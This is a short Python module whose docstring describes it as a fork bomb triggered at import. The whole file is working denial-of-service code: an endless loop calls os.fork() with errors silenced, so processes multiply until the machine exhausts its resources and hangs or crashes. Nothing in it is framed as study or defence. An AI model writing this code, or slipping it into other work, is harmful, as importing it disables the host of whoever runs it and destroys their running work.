"""A fork bomb at import: every process forks as fast as it can."""
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
